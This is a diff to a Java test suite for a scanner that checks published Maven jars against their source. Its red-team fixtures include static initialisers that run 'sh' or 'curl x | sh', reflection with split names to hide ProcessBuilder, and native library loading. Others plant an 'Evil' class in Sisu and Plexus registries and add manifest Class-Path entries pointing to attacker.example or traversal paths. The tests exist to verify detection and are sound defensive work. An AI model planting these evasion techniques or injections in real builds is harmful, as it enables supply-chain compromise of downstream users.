@@ -30,6 +30,7 @@ import java.util.Optional;
 import java.util.SortedMap;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -915,7 +916,16 @@ class MavenScanTest {
             "static { try { new ProcessBuilder(\"sh\").start(); } catch (Exception e) { } }",
             "static { System.loadLibrary(\"evil\"); }",
             "static { System.load(\"/tmp/evil.so\"); }",
-            "static Class<?> c(byte[] b) throws Exception { return java.lang.invoke.MethodHandles.lookup().defineClass(b); }"})
+            "static Class<?> c(byte[] b) throws Exception { return java.lang.invoke.MethodHandles.lookup().defineClass(b); }",
+            // red team round 4 (case2): the process API reached by reflection with computed names is in no constant pool
+            "static { try { Class<?> c = Class.forName(\"java.lang.\" + \"Process\" + \"Builder\");"
+                    + " Object p = c.getConstructor(String[].class).newInstance((Object) new String[] {\"sh\"});"
+                    + " c.getMethod(\"st\" + \"art\").invoke(p); } catch (Exception e) { } }",
+            "static { try { Greeter.class.getMethod(\"greet\", String.class).invoke(null, \"x\"); } catch (Exception e) { } }",
+            "static Object h() throws Throwable { return java.lang.invoke.MethodHandles.lookup().findStatic(Greeter.class,"
+                    + " \"greet\", java.lang.invoke.MethodType.methodType(String.class, String.class)); }",
+            "static { try { new java.net.URLClassLoader(new java.net.URL[0]); } catch (Exception e) { } }",
+            "static { try { new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1\"); } catch (Exception e) { } }"})
     void aClassWhoseCodeUsesAnApiItsSourceDoesNotNameIsHighRiskNotCompiledFromSource(String payload) throws Exception {
         Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Greeter.java",
                 GREETER.replace("public class Greeter {\n", "public class Greeter {\n    " + payload + "\n")), "--release", "11");
@@ -926,6 +936,49 @@ class MavenScanTest {
         assertTrue(f.riskFlags().contains(dev.divergence.model.RiskFlag.DYNAMIC_EXEC), f.riskFlags().toString());
         assertTrue(f.highRisk());
         assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    /**
+     * Red team round 4 (case12): a Javadoc saying "Process two numbers", a string "exec" or "JavaScript", a comment
+     * naming ProcessBuilder or loadLibrary named the API for the old text search; only the source's code names one.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "static { try { new ProcessBuilder(\"sh\", \"-c\", \"curl x | sh\").start(); } catch (Exception e) { } }",
+            "static { try { Runtime.getRuntime().exec(\"sh\"); } catch (Exception e) { } }",
+            "static { System.loadLibrary(\"evil\"); }",
+            "static { try { new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1\"); } catch (Exception e) { } }"})
+    void anApiNamedOnlyInTheSourcesCommentsOrStringsIsNotNamedByIt(String payload) throws Exception {
+        String commented = "package org.acme;\n\n/** Process two numbers; see ProcessBuilder, exec, loadLibrary, ScriptEngine. */\n"
+                + "public class Greeter {\n    // Runtime.getRuntime().exec(cmd) and System.loadLibrary(x) were here\n"
+                + "    static final String HELP = \"exec ProcessBuilder JavaScript ScriptEngineManager Runtime loadLibrary\";\n"
+                + "    /* new ProcessBuilder(cmd).start(); */\n"
+                + "    public static String greet(String name) {\n        return \"Hello, \" + name + '\\'' + \"\"\"\n"
+                + "            exec \\\"\"\" ScriptEngine\n            \"\"\";\n    }\n}\n";
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Greeter.java",
+                commented.replace("public class Greeter {\n", "public class Greeter {\n    " + payload + "\n")), "--release", "17");
+        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Greeter.java", commented), "3.0.0", classes), ".jar");
+        FileDivergence f = row(a, "org/acme/Greeter.class");
+        assertEquals(MavenGeneratedFiles.CLASS_CALLS_BEYOND_SOURCE, f.ruleId(), payload);
+        assertTrue(f.highRisk(), payload);
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
+    void aClassWhoseSourceUsesReflectionAndScriptsItselfStaysCompiledFromSource() throws Exception {
+        String plugin = "package org.acme;\n\nimport java.lang.reflect.Method;\nimport javax.script.*;\n\n"
+                + "public class Plugins {\n    public static Object call(String type, String method) throws Exception {\n"
+                + "        Class<?> c = Class.forName(type);\n        Method m = c.getMethod(method);\n"
+                + "        return m.invoke(c.getConstructor().newInstance());\n    }\n"
+                + "    public static Object eval(String js) throws Exception {\n"
+                + "        var engine = new ScriptEngineManager().getEngineByName(\"js\");\n        return engine.eval(js);\n    }\n"
+                + "    static Class<?> load(ClassLoader l, String n) throws Exception { return l.loadClass(n); }\n}\n";
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Plugins.java", plugin), "--release", "11");
+        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Plugins.java", plugin), "3.0.0", classes), ".jar");
+        FileDivergence f = row(a, "org/acme/Plugins.class");
+        assertEquals(FileStatus.GENERATED, f.status(), f.detail().toString());
+        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId());
+        assertEquals(Verdict.EXPLAINED, a.verdict());
     }
 
     @Test
@@ -1501,6 +1554,9 @@ class MavenScanTest {
     }
 
     /** Auto-loading registries: the path in a jar, the source's file, the published file adding org.acme.Evil. */
+    private static final String PLEXUS = "<component-set><components>\n  <component><role>org.acme.Greeter</role>"
+            + "<implementation>%s</implementation></component>%s\n</components></component-set>\n";
+
     private static final Map<String, String[]> REGISTRIES = Map.of(
             "spring.factories", new String[] {"META-INF/spring.factories",
                     "org.springframework.context.ApplicationListener=org.acme.Greeter\n",
@@ -1517,7 +1573,13 @@ class MavenScanTest {
                     "http\\://acme.org/schema/greeter=org.acme.Greeter\nhttp\\://acme.org/schema/x=org.acme.Evil\n"},
             "groovy extension module", new String[] {"META-INF/groovy/org.codehaus.groovy.runtime.ExtensionModule",
                     "moduleName=acme\nmoduleVersion=3.0.0\nextensionClasses=org.acme.Greeter\n",
-                    "moduleName=acme\nmoduleVersion=3.0.0\nextensionClasses=org.acme.Greeter\nstaticExtensionClasses=org.acme.Evil\n"});
+                    "moduleName=acme\nmoduleVersion=3.0.0\nextensionClasses=org.acme.Greeter\nstaticExtensionClasses=org.acme.Evil\n"},
+            // red team round 4 (case10): Maven instantiates a plugin's or build extension's listed components
+            "sisu index", new String[] {"META-INF/sisu/javax.inject.Named", "org.acme.Greeter\n",
+                    "org.acme.Greeter\norg.acme.Evil\n"},
+            "plexus components", new String[] {"META-INF/plexus/components.xml", PLEXUS.formatted("org.acme.Greeter", ""),
+                    PLEXUS.formatted("org.acme.Greeter", "<component><role>org.apache.maven.AbstractMavenLifecycleParticipant"
+                            + "</role><implementation>org.acme.Evil</implementation></component>")});
 
     private ArtifactReport scanRegistry(String path, String source, String published, String pom) throws Exception {
         SortedMap<String, byte[]> tree = greeterTree("org/acme/Greeter.java", GREETER, "src/main/resources/" + path, source);
@@ -1531,7 +1593,7 @@ class MavenScanTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"spring.factories", "auto-configuration imports", "aot.factories", "spring.handlers",
-            "groovy extension module"})
+            "groovy extension module", "sisu index", "plexus components"})
     void aClassAnAutoLoadingRegistryNamesThatTheSourcesFileDoesNotIsHighRisk(String registry) throws Exception {
         String[] r = REGISTRIES.get(registry);
         ArtifactReport a = scanRegistry(r[0], r[1], r[2], null);
@@ -1584,6 +1646,13 @@ class MavenScanTest {
     }
 
     @Test
+    void thePlexusComponentsOfTheSourcesDescriptorSpelledDifferentlyAreExplained() throws Exception {
+        ArtifactReport plexus = scanRegistry("META-INF/plexus/components.xml", PLEXUS.formatted("org.acme.Greeter", ""),
+                "<?xml version=\"1.0\"?>\r\n" + PLEXUS.formatted(" org.acme.Greeter ", "<!-- generated -->"), null);
+        assertEquals(MavenGeneratedFiles.AUTO_LOAD_SAME_ENTRIES, row(plexus, "META-INF/plexus/components.xml").ruleId());
+    }
+
+    @Test
     void aFilteredModuleVersionBesideTheSourcesClassesIsLeftToResourceFiltering() throws Exception {
         String groovy = "META-INF/groovy/org.codehaus.groovy.runtime.ExtensionModule";
         ArtifactReport module = scanRegistry(groovy, "moduleName=acme\nmoduleVersion=${project.version}\n"
@@ -1594,7 +1663,11 @@ class MavenScanTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"Bundle-Activator: org.acme.Evil", "Start-Class: org.acme.Evil", "Boot-Class-Path: evil.jar"})
+    @ValueSource(strings = {"Bundle-Activator: org.acme.Evil", "Start-Class: org.acme.Evil", "Boot-Class-Path: evil.jar",
+            // red team round 4 (case3, case3b): OSGi headers that start or wire in code
+            "Service-Component: OSGI-INF/component.xml", "Service-Component: OSGI-INF/org.acme.Widget.xml",
+            "DynamicImport-Package: *", "Fragment-Host: org.acme.host", "Bundle-ClassPath: .,lib/evil.jar",
+            "Require-Bundle: org.evil"})
     void aManifestAttributeNamingCodeToLoadThatNoBuildFileDeclaresIsHighRisk(String attribute) throws Exception {
         Map<String, byte[]> jar = new LinkedHashMap<>();
         jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n" + attribute + "\n"));
@@ -1605,6 +1678,139 @@ class MavenScanTest {
         assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId(), attribute);
         assertEquals("manifest entries no build file declares: [" + attribute + "]", m.detail().orElseThrow());
         assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
+    void aComponentDescriptorBndWritesForAnAnnotatedSourceAndTheBundleItselfAsClassPathAreGenerated() throws Exception {
+        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "src/main/java/org/acme/Widget.java",
+                "package org.acme;\nimport org.osgi.service.component.annotations.Component;\n"
+                        + "@Component(immediate = true)\npublic class Widget implements Plugin {\n  class Part {}\n}\n");
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
+                + "Service-Component: OSGI-INF/org.acme.Widget.xml\nBundle-ClassPath: .\n"));
+        jar.put("org/acme/Widget.class", CLASS);
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        assertEquals(MavenGeneratedFiles.MANIFEST, row(a, "META-INF/MANIFEST.MF").ruleId());
+        // a component of a class no source annotates is not bnd's
+        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
+                + "Service-Component: OSGI-INF/org.acme.Widget.xml,OSGI-INF/org.acme.Util.xml\n"));
+        FileDivergence m = row(artifact(scanPublished(java.nio.file.Files.createTempDirectory(dir, "other"), tree, "3.0.0",
+                Map.of(".pom", tree.get("pom.xml"), ".jar", LocalMaven.jar(jar))), ".jar"), "META-INF/MANIFEST.MF");
+        assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId());
+        assertTrue(m.highRisk());
+    }
+
+    /** Red team round 4 (case3): a component descriptor in no commit, named by the manifest, is an auto-load entry. */
+    @ParameterizedTest
+    @ValueSource(strings = {"org.acme.Widget", "org.acme.Util"})
+    void aComponentDescriptorInNoCommitIsBndsOnlyForAnAnnotatedClass(String implementation) throws Exception {
+        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "src/main/java/org/acme/Widget.java",
+                "package org.acme;\n@org.osgi.service.component.annotations.Component\n"
+                        + "public class Widget implements Plugin {\n  class Part {}\n}\n");
+        tree = dev.divergence.fixtures.Trees.with(tree, "bnd.bnd", "Service-Component: OSGI-INF/*.xml\n");
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
+                + "Service-Component: OSGI-INF/*.xml\n"));
+        jar.put("org/acme/Widget.class", CLASS);
+        jar.put("OSGI-INF/component.xml", utf8("<?xml version=\"1.0\"?>\n<scr:component xmlns:scr=\"http://www.osgi.org/xmlns/"
+                + "scr/v1.3.0\" name=\"c\" immediate=\"true\">\n  <implementation class=\"" + implementation + "\"/>\n"
+                + "</scr:component>\n"));
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        assertEquals(MavenGeneratedFiles.MANIFEST, row(a, "META-INF/MANIFEST.MF").ruleId());
+        FileDivergence c = row(a, "OSGI-INF/component.xml");
+        if (implementation.equals("org.acme.Widget")) {
+            assertEquals(FileStatus.GENERATED, c.status());
+            assertEquals(MavenGeneratedFiles.OSGI_COMPONENT_FROM_ANNOTATION, c.ruleId());
+            assertFalse(c.highRisk());
+        } else {
+            assertEquals(FileStatus.PHANTOM, c.status());
+            assertEquals(MavenGeneratedFiles.AUTO_LOAD_NEW_ENTRY, c.ruleId());
+            assertTrue(c.highRisk());
+            assertEquals(Verdict.HIGH_RISK, a.verdict());
+        }
+    }
+
+    /**
+     * Red team round 4 (case5): a manifest template or build file of an integration test project, Gradle test fixtures
+     * or a JMH benchmark configures that project, not the published jar.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"src/it/launcher/src/main/resources/META-INF/MANIFEST.MF", "src/testFixtures/resources/META-INF/MANIFEST.MF",
+            "src/integrationTest/resources/META-INF/MANIFEST.MF", "src/jmh/resources/META-INF/MANIFEST.MF",
+            "src/it/launcher/pom.xml", "integration-tests/pom.xml"})
+    void aTestProjectsManifestOrBuildFileExplainsNoExecutionEntryOfTheJar(String where) throws Exception {
+        String content = where.endsWith("pom.xml") ? "<project><artifactId>launcher</artifactId><build><plugins><plugin>"
+                + "<artifactId>maven-jar-plugin</artifactId><configuration><archive><manifestEntries>"
+                + "<Launcher-Agent-Class>itest.Boot</Launcher-Agent-Class></manifestEntries></archive></configuration>"
+                + "</plugin></plugins></build></project>\n" : "Manifest-Version: 1.0\nLauncher-Agent-Class: itest.Boot\n";
+        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), where, content);
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
+                + "Launcher-Agent-Class: itest.Boot\n"));
+        jar.put("org/acme/Widget.class", CLASS);
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
+        assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId(), where);
+        assertTrue(m.highRisk(), where);
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
+    void theMainBuildsManifestTemplateStillExplainsItsEntries() throws Exception {
+        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(),
+                "src/main/resources/META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nLauncher-Agent-Class: org.acme.Widget\n");
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
+                + "Launcher-Agent-Class: org.acme.Widget\n"));
+        jar.put("org/acme/Widget.class", CLASS);
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        assertEquals(MavenGeneratedFiles.MANIFEST, row(a, "META-INF/MANIFEST.MF").ruleId());
+    }
+
+    /** A POM whose jar plugin writes the class path (addClasspath, prefix lib/) for commons-io; junit is a test one. */
+    private static final String CLASS_PATH_POM = "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId>"
+            + "<version>3.0.0</version><dependencies><dependency><groupId>commons-io</groupId><artifactId>commons-io</artifactId>"
+            + "<version>2.11.0</version></dependency><dependency><groupId>junit</groupId><artifactId>junit</artifactId>"
+            + "<version>4.13</version><scope>test</scope></dependency></dependencies>"
+            + "<build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><archive>"
+            + "<manifest><mainClass>org.acme.Widget</mainClass><addClasspath>true</addClasspath>"
+            + "<classpathPrefix>lib</classpathPrefix></manifest></archive></configuration></plugin></plugins></build></project>\n";
+
+    /** Red team round 4 (case13): addClasspath explained any Class-Path value. */
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', value = {
+            "lib/commons-io-2.11.0.jar|GENERATED",
+            "lib/commons-io-2.11.0.jar lib/shim-1.0.jar|UNDECLARED",
+            "lib/junit-4.13.jar|UNDECLARED",
+            "../../../../../org/attacker/shim/1.0/shim-1.0.jar /tmp/.cache/x.jar|EXECUTION",
+            "lib/commons-io-2.11.0.jar lib/../../x/commons-io-2.11.0.jar|EXECUTION",
+            "https://attacker.example/commons-io-2.11.0.jar|EXECUTION",
+            "commons-io-2.11.0.jar|EXECUTION"})
+    void aClassPathIsTheJarPluginsOnlyWhenItListsTheDependenciesUnderItsPrefix(String classPath, String expected)
+            throws Exception {
+        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", CLASS_PATH_POM);
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\nClass-Path: "
+                + classPath + "\n"));
+        jar.put("org/acme/Widget.class", CLASS);
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
+        switch (expected) {
+            case "GENERATED" -> {
+                assertEquals(MavenGeneratedFiles.MANIFEST, m.ruleId(), classPath);
+                assertEquals(Verdict.EXPLAINED, a.verdict());
+            }
+            case "UNDECLARED" -> {
+                assertEquals(MavenGeneratedFiles.MANIFEST_CLASS_PATH_UNDECLARED, m.ruleId(), classPath);
+                assertFalse(m.highRisk());
+                assertEquals(Verdict.DIVERGENT, a.verdict());
+            }
+            default -> {
+                assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId(), classPath);
+                assertTrue(m.highRisk());
+                assertEquals(Verdict.HIGH_RISK, a.verdict());
+            }
+        }
     }
 
     @ParameterizedTest
